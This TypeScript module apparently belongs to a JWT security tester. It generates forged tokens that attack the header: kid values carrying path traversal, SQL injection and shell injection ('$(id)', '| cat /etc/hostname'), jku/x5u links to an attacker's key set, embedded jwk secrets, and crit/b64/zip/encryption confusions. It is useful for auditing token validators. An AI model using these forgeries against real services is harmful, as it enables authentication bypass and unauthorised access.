import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { type Attack, tokens } from './token-attacks.ts';
import {
  content,
  type Forge,
  jwkOf,
  part,
  platformToken,
  signerOf,
  soundClaims,
  tokenBy,
  withHmac,
} from './token-forge.ts';

type TokenMaker = (forge: Forge) => string;

/** A name of a key that leads a careless service to a secret that the attacker knows. */
const LEADING_NAMES: readonly (readonly [kid: unknown, secret: string])[] = [
  ['/dev/null', ''],
  ['../../../../../../dev/null', ''],
  ['..\\..\\..\\..\\nul', ''],
  ['%2e%2e%2f%2e%2e%2fdev%2fnull', ''],
  ['../../../../proc/sys/kernel/randomize_va_space', '2\n'],
  ['file:///dev/null', ''],
  ["x' union select 'secret' -- ", 'secret'],
  ["' or '1'='1", ''],
  ['"; select pg_sleep(5); --', ''],
  ['| cat /etc/hostname', ''],
  ['$(id)', ''],
  [`\${secretKey}`, ''],
  ['{{secretKey}}', ''],
  ['__proto__', ''],
  ['constructor', 'function Object() { [native code] }'],
  ['\u0000', ''],
  ['secret', 'secret'],
  ['', ''],
  [0, ''],
  [null, ''],
  [['HS256'], ''],
  [{ k: '' }, ''],
  ['x'.repeat(4_000), ''],
];

function nameAttacks(): Attack[] {
  return tokens(
    Object.fromEntries(
      LEADING_NAMES.map(([kid, secret], index): [string, TokenMaker] => [
        `the key name ${index + 1}, ${JSON.stringify(kid).slice(0, 50)}`,
        () => withHmac(content({ alg: 'HS256', kid }), secret),
      ]),
    ),
  );
}

/** A header that brings its own key, or says where one is (RFC 8725, 3.10). */
function broughtKeyAttacks(): Attack[] {
  const own = (header: (forge: Forge) => object): TokenMaker => {
    return (forge) => tokenBy(signerOf(forge.own, 'RS256'), header(forge));
  };
  const shared = part('attacker');
  return tokens({
    'a key set of the attacker (jku)': own(({ ownKeySet }) => ({ jku: ownKeySet })),
    'a key set of the attacker behind another host (jku)': own(({ ownKeySet }) => ({
      jku: `http://localhost@${new URL(ownKeySet).host}/jwks.json`,
    })),
    'a key set in a file (jku)': own(() => ({ jku: 'file:///etc/hostname' })),
    'a certificate of the attacker (x5u)': own(({ ownKeySet }) => ({ x5u: ownKeySet })),
    'a certificate in the header (x5c)': own(({ own: keys }) => ({
      x5c: [signerOf(keys, 'RS256').publicKey.export({ type: 'spki', format: 'der' })].map((der) =>
        der.toString('base64'),
      ),
    })),
    'a fingerprint of a certificate (x5t)': own(() => ({ x5t: part(randomBytes(20)) })),
    'a public key in the header (jwk)': own(({ own: keys }) => ({
      jwk: jwkOf(signerOf(keys, 'RS256')),
    })),
    'a public key in the header, without a name': own(({ own: keys }) => ({
      kid: undefined,
      jwk: jwkOf(signerOf(keys, 'RS256')),
    })),
    'a secret in the header (jwk)': () =>
      withHmac(content({ alg: 'HS256', jwk: { kty: 'oct', k: shared } }), 'attacker'),
    'a secret in the header (k)': () => withHmac(content({ alg: 'HS256', k: shared }), 'attacker'),
  });
}

/** A header that asks for a reading of its own; all but the compressed are signed as they should be. */
function extensionAttacks(): Attack[] {
  const signed = (header: object | string): TokenMaker => {
    return ({ secret }) => withHmac(content(header), secret);
  };
  const critical: readonly unknown[] = [
    ['exp'],
    ['b64', 'exp'],
    [],
    ['x'],
    'exp',
    null,
    true,
    [''],
    {},
  ];
  const headers = ['', '[]', 'null', '"HS256"', '7', '{"alg":"HS256"', "{'alg':'HS256'}", '{}'];
  return tokens({
    ...Object.fromEntries(
      critical.map((crit): [string, TokenMaker] => [
        `critical ${JSON.stringify(crit)}`,
        signed({ alg: 'HS256', crit, exp: 1, x: 1, '': 1 }),
      ]),
    ),
    ...Object.fromEntries(
      headers.map((header): [string, TokenMaker] => [
        `the header ${header || '""'}`,
        signed(header),
      ]),
    ),
    'a payload that is not encoded (b64), critical': ({ secret }) =>
      rawPayload({ alg: 'HS256', b64: false, crit: ['b64'] }, secret),
    'a payload that is not encoded (b64)': ({ secret }) =>
      rawPayload({ alg: 'HS256', b64: false }, secret),
    'an encoded payload that is signed as not encoded (b64)': ({ secret }) => {
      const header = part(JSON.stringify({ alg: 'HS256', b64: false, crit: ['b64'] }));
      const payload = JSON.stringify(soundClaims());
      const [, , mac = ''] = withHmac(`${header}.${payload}`, secret).split(/\.(?=[^.]*$)|\.(?={)/);
      return `${header}.${part(payload)}.${mac}`;
    },
    'a compressed payload (zip)': ({ secret }) =>
      withHmac(
        content({ alg: 'HS256', zip: 'DEF' }, deflateRawSync(JSON.stringify(soundClaims()))),
        secret,
      ),
    'a token within a token (cty)': (forge) =>
      withHmac(content({ alg: 'HS256', cty: 'JWT' }, platformToken(forge)), forge.secret),
    'an encrypted token of five parts': ({ secret }) => encrypted(secret),
    'JSON serialisation': (forge) => part(serialised(forge)),
    'JSON serialisation as it is': (forge) => serialised(forge).replaceAll(' ', ''),
  });
}

/** All attacks that a header makes. */
export function headerAttacks(): Attack[] {
  return [...nameAttacks(), ...broughtKeyAttacks(), ...extensionAttacks()];
}

function rawPayload(header: object, secret: string): string {
  return withHmac(`${part(JSON.stringify(header))}.${JSON.stringify(soundClaims())}`, secret);
}

function serialised(forge: Forge): string {
  const [head, payload, signature] = platformToken(forge).split('.');
  return JSON.stringify({ payload, signatures: [{ protected: head, signature }] });
}

/** A token that is encrypted with the secret and signed by nobody. */
function encrypted(secret: string): string {
  const header = part('{"alg":"dir","enc":"A256GCM"}');
  const iv = randomBytes(12);
  const key = createHash('sha256').update(secret).digest();
  const cipher = createCipheriv('aes-256-gcm', key, iv).setAAD(Buffer.from(header));
  const text = Buffer.concat([cipher.update(JSON.stringify(soundClaims())), cipher.final()]);
  return [header, '', part(iv), part(text), part(cipher.getAuthTag())].join('.');
}
